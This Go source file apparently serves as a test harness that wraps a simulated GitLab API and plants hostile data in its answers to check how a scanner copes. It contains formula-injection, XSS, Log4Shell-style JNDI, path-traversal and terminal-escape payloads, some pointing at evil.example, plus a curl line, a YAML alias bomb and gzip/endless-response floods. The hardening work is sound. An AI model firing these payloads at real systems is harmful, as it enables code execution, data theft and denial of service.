package main

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"

	"readiness/scan/gitlabsim"
)

// mark stands in every hostile text, so that what came of it can be found. Its
// digits are none of base32, of which pseudonyms are made.
const mark = "q08"

// Bytes that no Go string in JSON can hold stand as these runes until an answer
// is sent.
const (
	brokenByte    = '\ue000' // 0xFF
	loneSurrogate = '\ue001' // \ud800
)

// hostileTexts are put before names, titles, paths and addresses.
var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/` + mark + `","x")`, `+` + mark + `|' /C calc'!A0`, `-2+3+` + mark, `@SUM(1+1)` + mark, "\t=1+1" + mark, "\r\n=cmd|" + mark,
	`<script>alert("` + mark + `")</script>`, `"><img src=x onerror=alert(1) ` + mark + `>`, `</td></tr></table><!--` + mark, `]]>` + mark + `<![CDATA[`,
	"\x1b[2J\x1b]0;" + mark + "\a", "\u009b31m" + mark + "\u009d", "\x00\x01\b\x7f" + mark, "\u202egnp." + mark + "\u2066", "\ufeff\u200f\u200e" + mark,
	mark + "\n## line\r\n| a | b |\u2028\u2029\u0085", "../../../../../../tmp/" + mark + "/", `..\..\` + mark + `\`, "|x|`" + mark + "`](javascript:alert(1))![x](http://evil.example/x.png)<b>",
	"/close\n/assign @root\n@all " + mark, "_x000D__x0000_" + mark + "&#x1b;&lt;", string(brokenByte) + mark + string(loneSurrogate), "\U000e0041\U0010ffff\ufdd0" + mark,
	strings.Repeat("A", 40_000) + mark, "{{7*7}}${jndi:ldap://evil.example/" + mark + "}%s%n%d",
}

// hostileText is one of the texts, always the same for the same s.
func hostileText(s string) string {
	n := 0
	for _, b := range []byte(s) {
		n = n*31 + int(b)
	}
	return hostileTexts[uint(n)%uint(len(hostileTexts))]
}

// accounts are the names of accounts that GitLab makes for itself and others.
var accounts = regexp.MustCompile(`(?i)bot|ghost|service`)

// hostilePath makes every part of a path hostile.
func hostilePath(path string) string {
	parts := strings.Split(path, "/")
	for i, p := range parts {
		if p != "" {
			parts[i] = hostileText(p) + p
		}
	}
	return strings.Join(parts, "/")
}

// received is a hostile text as a decoder of JSON hands it on.
func received(s string) string {
	return strings.ToValidUTF8(strings.NewReplacer(string(brokenByte), "\ufffd", string(loneSurrogate), "\ufffd").Replace(s), "\ufffd")
}

// hostileKeys are the keys of free text; under the others may be words of GitLab's.
var hostileKeys = []string{"name", "title", "full_name", "name_with_namespace", "key", "environment_scope", "environmentScope", "bio", "location", "organization",
	"public_email", "email", "commit_email", "hostname", "default_branch", "tags", "tag_list", "topics"}

// hostile answers as a simulated instance does, with every text that people give
// turned against whoever shows it, and with numbers, dates and files that no
// instance should have. Projects are ill by their place in order of id.
type hostile struct {
	of        http.Handler
	elsewhere string        // another host, to which it redirects
	place     map[int64]int // of projects

	mu   sync.Mutex
	real map[string]string // paths by what they were turned into
	n    map[string]int    // requests by path
}

// illNumbers are numbers and dates in the listing, by a project's place.
var illNumbers = []map[string]string{
	{"repository_size": `-5`, "star_count": `-1`},
	{"repository_size": `9007199254740993`, "lfs_objects_size": `9223372036854775807`},
	{"repository_size": `99999999999999999999`, "star_count": `1e30`, "forks_count": `"seven"`},
	{"last_activity_at": `"9999-12-31T23:59:59-23:59"`, "created_at": `"9999-12-31T23:59:59.999Z"`},
	{"created_at": `"0000-01-01T00:00:00Z"`, "last_activity_at": `"-9223372036854775808"`},
	{"statistics": `[[]]`, "created_at": `{"a":[1]}`, "topics": `{}`, "visibility": `["private"]`},
}

// illFiles are CI/CD configurations, by the place of their project after those of
// illNumbers.
var illFiles = []string{
	"a: {script: [x]}\n" + strings.Repeat("# "+strings.Repeat("x", 98)+"\n", 100_000),
	"a: &a [x,x,x,x,x,x,x,x,x]\n" + bomb(9) + "job: {script: *j}\n",
	"job: {script: " + strings.Repeat("[", 100_000) + "}\n",
	"include: [/.gitlab-ci.yml, '.gitlab-ci.yml', '**/*.yml', '../../../etc/passwd', {remote: 'https://u:p@evil.example/" + mark + "\u202e.yml'}]\na: {extends: b}\nb: {extends: a, script: [!reference [b, script]]}\n",
	"\"" + `\e[2J` + mark + "\": {image: \"evil.example/=1+1<script>\u202e" + mark + "\", script: ['curl https://evil.example/\u202e<b>'], tags: [\"\\e]0;" + mark + "\"]}\n" + string(brokenByte) + "\x00",
}

// bomb is n lists, each of nine times the one before.
func bomb(n int) string {
	var b strings.Builder
	for i := range n {
		name := string(rune('a' + i))
		fmt.Fprintf(&b, "%c: &%c [%s]\n", 'b'+i, 'b'+i, strings.TrimSuffix(strings.Repeat("*"+name+",", 9), ","))
	}
	return b.String()
}

// illHooks are answers to a list of webhooks, by the place of their project after
// those of illFiles.
var illHooks = []string{"nested", "gzip", "endless", "elsewhere", "pages", "long pages"}

func newHostile(of http.Handler, world *gitlabsim.World, elsewhere string) *hostile {
	h := &hostile{of: of, elsewhere: elsewhere, place: map[int64]int{}, real: map[string]string{}, n: map[string]int{}}
	for id := range world.ProjectIDs() {
		h.place[id] = len(h.place)
	}
	return h
}

// project is the id of the project at a place.
func (h *hostile) project(place int) int64 {
	for id, p := range h.place {
		if p == place {
			return id
		}
	}
	return 0
}

func (h *hostile) turn(path string) string {
	turned := hostilePath(path)
	h.mu.Lock()
	h.real[received(turned)] = path
	h.mu.Unlock()
	return turned
}

// plant makes an answer hostile. about is the project that it is about, or 0.
func (h *hostile) plant(v any, about int64) any {
	switch v := v.(type) {
	case []any:
		for i := range v {
			v[i] = h.plant(v[i], about)
		}
	case map[string]any:
		if gid, ok := v["id"].(string); ok {
			if n, is := strings.CutPrefix(gid, "gid://gitlab/Project/"); is {
				about, _ = strconv.ParseInt(n, 10, 64)
			}
		}
		if _, flag := v["gates"]; flag {
			return v // a feature flag, whose name is GitLab's
		}
		for key, inner := range v {
			text, is := inner.(string)
			switch {
			case is && text == "":
			case is && (key == "username" || key == "name") && accounts.MatchString(text): // by which GitLab's own are known
			case is && (key == "path_with_namespace" || key == "full_path" || key == "fullPath" || key == "username"):
				v[key] = h.turn(text)
			case is && (key == "web_url" || key == "webUrl"):
				v[key] = []string{"javascript:alert('" + mark + "')//", "http://evil.example/" + mark + "\">\r\n<b>", "file:///etc/" + mark, `\\evil.example\` + mark}[len(text)%4] + text
			case is && strings.HasPrefix(key, "description") && about%7 == 1:
				v[key] = strings.Repeat(hostileText(text), 1+(1<<20)/len(hostileText(text)))
			case is && strings.HasPrefix(key, "description"):
				v[key] = hostileText(text) + text
			case is && key == "rawTextBlob" && v["path"] == ".gitlab-ci.yml":
				if i := h.place[about] - len(illNumbers); about != 0 && i >= 0 && i < len(illFiles) {
					v[key], v["rawSize"] = illFiles[i], json.Number(strconv.Itoa(len(illFiles[i])))
				}
			case slices.Contains(hostileKeys, key):
				v[key] = h.texts(inner)
			default:
				v[key] = h.plant(inner, about)
			}
		}
		if _, listed := v["path_with_namespace"]; listed {
			h.sicken(v)
		}
	}
	return v
}

// texts turns a text, or each of a list.
func (h *hostile) texts(v any) any {
	switch v := v.(type) {
	case string:
		if v != "" {
			return hostileText(v) + v
		}
	case []any:
		for i := range v {
			v[i] = h.texts(v[i])
		}
	case map[string]any:
		return h.plant(v, 0)
	}
	return v
}

// sicken puts ill numbers and dates into a project.
func (h *hostile) sicken(p map[string]any) {
	id, _ := strconv.ParseInt(fmt.Sprint(p["id"]), 10, 64)
	place, known := h.place[id]
	if !known || place >= len(illNumbers) {
		return
	}
	statistics, _ := p["statistics"].(map[string]any)
	for key, value := range illNumbers[place] {
		if _, there := statistics[key]; there {
			statistics[key] = json.RawMessage(value)
		} else if _, there := p[key]; there {
			p[key] = json.RawMessage(value)
		}
	}
}

func (h *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	h.n[r.URL.Path]++
	h.mu.Unlock()
	for i, kind := range illHooks {
		if id := h.project(len(illNumbers) + len(illFiles) + i); r.URL.Path == fmt.Sprintf("/api/v4/projects/%d/hooks", id) {
			h.illAnswer(w, r, kind)
			return
		}
	}
	body, err := io.ReadAll(r.Body)
	if err != nil {
		return
	}
	r.Body = io.NopCloser(bytes.NewReader(h.understood(body)))
	r.ContentLength = -1
	kept := httptest.NewRecorder()
	h.of.ServeHTTP(kept, r)
	text := kept.Body.Bytes()
	var answer any
	decoder := json.NewDecoder(bytes.NewReader(text))
	decoder.UseNumber()
	if decoder.Decode(&answer) == nil {
		answer = h.plant(answer, 0)
		if list, ok := answer.([]any); ok && len(list) > 1 && kept.Code == http.StatusOK {
			if _, subjects := list[0].(map[string]any)["web_url"]; subjects {
				answer = append(list, list[0], list[len(list)-1], list[0])
			}
		}
		if text, err = json.Marshal(answer); err != nil {
			panic(err)
		}
		text = bytes.ReplaceAll(text, []byte(string(brokenByte)), []byte{0xff})
		text = bytes.ReplaceAll(text, []byte(string(loneSurrogate)), []byte(`\ud800`))
	}
	for key, values := range kept.Header() {
		w.Header()[key] = values
	}
	w.Header().Set("Content-Length", strconv.Itoa(len(text)))
	w.WriteHeader(kept.Code)
	_, _ = w.Write(text)
}

// understood puts the real paths back into a question that names hostile ones.
func (h *hostile) understood(body []byte) []byte {
	var q map[string]any
	if json.Unmarshal(body, &q) != nil {
		return body
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if vars, ok := q["variables"].(map[string]any); ok {
		for key, v := range vars {
			if path, ok := v.(string); ok && h.real[path] != "" {
				vars[key] = h.real[path]
			}
		}
	}
	body, err := json.Marshal(q)
	if err != nil {
		panic(err)
	}
	return body
}

// illAnswer answers what no list of webhooks is.
func (h *hostile) illAnswer(w http.ResponseWriter, r *http.Request, kind string) {
	w.Header().Set("Content-Type", "application/json")
	const hook = `{"id":1,"url":"https://hooks.example.com/x"}`
	page, _ := strconv.Atoi(r.URL.Query().Get("page"))
	switch kind {
	case "nested":
		_, _ = io.WriteString(w, strings.Repeat(`[{"url":`, 200_000))
	case "gzip":
		w.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(w)
		blank := bytes.Repeat([]byte(" "), 1<<20)
		for range 1024 {
			if _, err := z.Write(blank); err != nil {
				return
			}
		}
	case "endless":
		blank := bytes.Repeat([]byte(" "), 1<<20)
		for {
			if _, err := w.Write(blank); err != nil {
				return
			}
		}
	case "elsewhere":
		http.Redirect(w, r, h.elsewhere+r.URL.Path, http.StatusFound)
	case "pages":
		w.Header().Set("X-Next-Page", strconv.Itoa(page+1))
		_, _ = io.WriteString(w, "["+hook+"]")
	case "long pages":
		w.Header().Set("Link", fmt.Sprintf(`<http://%s%s?page=%d>; rel="next"`, r.Host, r.URL.Path, page+1))
		_, _ = io.WriteString(w, "["+strings.TrimSuffix(strings.Repeat(hook+",", 100), ",")+"]")
	}
}
